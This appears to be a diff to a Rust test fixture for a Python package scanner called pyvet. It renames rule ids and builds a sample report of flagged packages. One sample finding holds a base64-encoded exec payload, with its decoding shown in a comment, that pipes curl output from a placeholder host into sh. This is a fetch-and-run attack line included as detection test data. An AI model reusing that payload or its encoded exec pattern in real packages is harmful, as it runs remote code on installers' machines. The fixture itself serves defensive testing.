@@ -1,13 +1,12 @@
 //! A hand-built report for renderer and policy tests: one package per situation a reader meets
-//! (pass, warn, fail on code, suppressed, hash mismatch, metadata-only), plus the policy and the
-//! snapshot filters the tests share.
-#![allow(dead_code)]
+//! (pass, warn, fail on code, suppressed, hash mismatch, metadata-only), with real rule ids so
+//! SARIF is rendered with the real catalogue, plus the policy and the snapshot filters the
+//! tests share.
 
 use std::collections::BTreeMap;
 use std::path::Path;
 
 use pyvet::config::Config;
-use pyvet::finding::RuleInfo;
 use pyvet::finding::{Confidence, Finding, Runs, Severity, Verdict};
 use pyvet::hash::{Digest, Hashes};
 use pyvet::metadata::PackageMetadata;
@@ -16,49 +15,6 @@ use pyvet::report::{
     ArtifactReport, ArtifactStatus, PackageReport, Report, Summary, Tool, UpgradeSummary,
     SCHEMA_VERSION,
 };
-
-pub const RULE_IDS: &[&str] = &[
-    "known-vulnerability",
-    "pth-exec",
-    "maintainers",
-    "exec-encoded-payload",
-    "network-at-import",
-    "obfuscated-identifiers",
-    "install-hook-download",
-    "hash-mismatch",
-    "release-too-new",
-    "no-source-repository",
-    "dormant-project",
-];
-
-/// A stand-in for the rule catalogue (which other modules fill in), so snapshots do not move
-/// when real rule texts change.
-pub fn test_catalog(id: &str) -> Option<RuleInfo> {
-    let (severity, summary, help): (Severity, &'static str, &'static str) = match id {
-        "exec-encoded-payload" => (Severity::Critical, "Executes a decoded (base64, hex, zlib) payload", "Code that decodes a blob and passes it to exec or eval hides what it runs. Legitimate packages rarely do this."),
-        "network-at-import" => (Severity::High, "Opens a network connection when imported", "Importing a library should not talk to the network."),
-        "obfuscated-identifiers" => (Severity::Low, "Unusually obfuscated identifiers", "Minified or generated code also triggers this."),
-        "install-hook-download" => (Severity::High, "setup.py downloads something at install time", "Install hooks that fetch code run it with the installer's rights."),
-        "hash-mismatch" => (Severity::Critical, "The downloaded file does not match the lockfile hash", "The bytes served differ from those locked: a compromised index, a re-upload, or a broken mirror."),
-        "release-too-new" => (Severity::Medium, "The pinned release is younger than min-release-age", "Most malicious releases are removed within days; waiting lets others find them first."),
-        "no-source-repository" => (Severity::Low, "No source repository is linked", "Without a repository the published code cannot be compared with its source."),
-        "dormant-project" => (Severity::Low, "No release for years, then a new one", "A dormant project that suddenly releases may have changed hands."),
-        "known-vulnerability" => (Severity::High, "The pinned version has a known vulnerability", "An advisory lists this version as affected; upgrade to a fixed release."),
-        "pth-exec" => (Severity::High, "A .pth file runs code at interpreter start", "Lines of a .pth file that start with `import` run at every interpreter start."),
-        "maintainers" => (Severity::Info, "Who maintains the project", "The owners and maintainers the index lists, for context."),
-        _ => return None,
-    };
-    Some(RuleInfo {
-        id: RULE_IDS.iter().find(|r| **r == id)?,
-        severity,
-        summary,
-        help,
-    })
-}
-
-pub fn known_rule(id: &str) -> bool {
-    RULE_IDS.contains(&id)
-}
 
 pub fn ts(s: &str) -> jiff::Timestamp {
     s.parse().unwrap()
@@ -139,7 +95,7 @@ pub fn raw_report() -> Report {
             5,
             vec![
                 code(
-                    "obfuscated-identifiers",
+                    "packer",
                     Severity::Low,
                     "evil-pkg",
                     "1.0.0",
@@ -149,7 +105,7 @@ pub fn raw_report() -> Report {
                     "O0=lambda l1:l1",
                 ),
                 code(
-                    "exec-encoded-payload",
+                    "exec-decoded",
                     Severity::Critical,
                     "evil-pkg",
                     "1.0.0",
@@ -159,7 +115,7 @@ pub fn raw_report() -> Report {
                     "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ==\"))\n# decoded: import os; os.system('curl http://example.invalid/x | sh')\n# third line that the table cuts",
                 ),
                 code(
-                    "network-at-import",
+                    "suspicious-destination",
                     Severity::High,
                     "evil-pkg",
                     "1.0.0",
@@ -175,7 +131,7 @@ pub fn raw_report() -> Report {
             "0.0.2",
             7,
             vec![
-                pkg_level("release-too-new", Severity::Medium, "tinyhelper", "0.0.2", "Released 2 days ago (min-release-age is 7 days)."),
+                pkg_level("recent-release", Severity::Medium, "tinyhelper", "0.0.2", "Released 2 days ago (min-release-age is 7 days)."),
                 pkg_level("no-source-repository", Severity::Low, "tinyhelper", "0.0.2", "The project links no source repository."),
             ],
         ),
@@ -184,7 +140,7 @@ pub fn raw_report() -> Report {
             "3.1.0",
             9,
             vec![code(
-                "install-hook-download",
+                "install-hook-network",
                 Severity::High,
                 "vetted-tool",
                 "3.1.0",
@@ -211,7 +167,7 @@ pub fn raw_report() -> Report {
             "oldlib",
             "1.0",
             13,
-            vec![pkg_level("dormant-project", Severity::Low, "oldlib", "1.0", "No release between 2019-03-01 and 2026-11-01.")],
+            vec![pkg_level("dormant-revived", Severity::Low, "oldlib", "1.0", "No release between 2019-03-01 and 2026-11-01.")],
         ),
     ];
     packages[4].artifacts[0].status = ArtifactStatus::HashMismatch;
@@ -253,10 +209,10 @@ fail-on = "high"
 
 [[ignore]]
 package = "Vetted_Tool"
-rule = "install-hook-download"
+rule = "install-hook-network"
 reason = "Reviewed: downloads its own test data from the project's mirror."
 "#;
-    Config::from_toml(Path::new("pyvet.toml"), text, &known_rule).unwrap()
+    Config::from_toml(Path::new("pyvet.toml"), text, &pyvet::catalog::is_known).unwrap()
 }
 
 pub fn now() -> jiff::Timestamp {
@@ -299,7 +255,7 @@ pub fn realistic_raw_report(root: &Path, port: u16) -> Report {
     }
     for f in &mut package_mut(&mut r, "evil-pkg").findings {
         match f.rule.as_str() {
-            "exec-encoded-payload" => {
+            "exec-decoded" => {
                 *f = f
                     .clone()
                     .with_match("exec")
@@ -309,13 +265,13 @@ pub fn realistic_raw_report(root: &Path, port: u16) -> Report {
                     "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ==\"))".into(),
                 );
             }
-            "network-at-import" => {
+            "suspicious-destination" => {
                 *f = f
                     .clone()
                     .with_match("socket.create_connection")
                     .runs(Runs::Import)
             }
-            "obfuscated-identifiers" => *f = f.clone().runs(Runs::Call),
+            "packer" => *f = f.clone().runs(Runs::Call),
             _ => {}
         }
     }
